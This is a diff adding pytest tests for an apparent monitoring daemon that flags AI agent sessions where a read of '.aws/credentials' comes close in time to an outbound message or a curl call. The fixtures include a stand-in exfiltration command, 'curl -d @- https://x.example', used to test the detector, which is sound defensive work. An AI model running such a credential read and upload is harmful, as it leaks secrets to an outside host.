@@ -232,3 +232,40 @@ def test_a_credential_read_in_a_command(command: str, found: str | None) -> None
 ])
 def test_an_egress_command(command: str, kind: str | None) -> None:
     assert outbound.egress_command({"command": {"command": command}}) == kind
+
+
+def _event(action: str, at_s: int, session: str = "s1", **fields: Any) -> dict[str, Any]:
+    event = events.make(action, harness="claude", session=session, ts=1_000_000_000_000 + at_s * 1000, **fields)
+    event["event"]["id"] = events.event_id(event)
+    return event
+
+
+READ = {"file": {"paths": [".aws/credentials"], "op": "read"}}
+CURL = {"command": {"command": "curl -d @- https://x.example", "exit_code": 0}}
+
+
+def _sent(released: bool = False) -> dict[str, Any]:
+    return {"message": {"id": "01ARZ3NDEKTSV4RRFFQ69G5FAV", "to": "a/b", "kind": "message", "released": released}}
+
+
+@pytest.mark.parametrize(("stream", "found"), [
+    ([(outbound.SENT, 0, _sent()), ("tool.completed", 119, READ)], ["message"]),  # send, then read: finding
+    ([(outbound.SENT, 0, _sent()), ("tool.completed", 121, READ)], []),  # outside the window
+    ([("tool.completed", 0, READ), (outbound.SENT, 30, _sent())], []),  # read, then send: held, no finding
+    ([("tool.completed", 0, READ), ("tool.completed", 90, CURL)], ["curl"]),  # read, then curl
+    ([("tool.completed", 0, CURL), ("tool.completed", 90, READ)], ["curl"]),  # curl, then read
+    ([("tool.completed", 0, CURL), ("tool.completed", 300, READ)], []),
+    ([(outbound.SENT, 0, _sent(released=True)), ("tool.completed", 5, READ)], []),  # its person released it
+])
+def test_after_the_fact_matches(stream: list[tuple[str, int, dict[str, Any]]], found: list[str]) -> None:
+    from gitive.daemon import findings
+
+    made = [_event(action, at, **fields) for action, at, fields in stream]
+    assert [out.kind for _, _, out in findings.matches(made)] == found
+
+
+def test_a_read_in_another_session_is_no_match() -> None:
+    from gitive.daemon import findings
+
+    made = [_event(outbound.SENT, 0, **_sent()), _event("tool.completed", 10, session="s2", **READ)]
+    assert findings.matches(made) == []
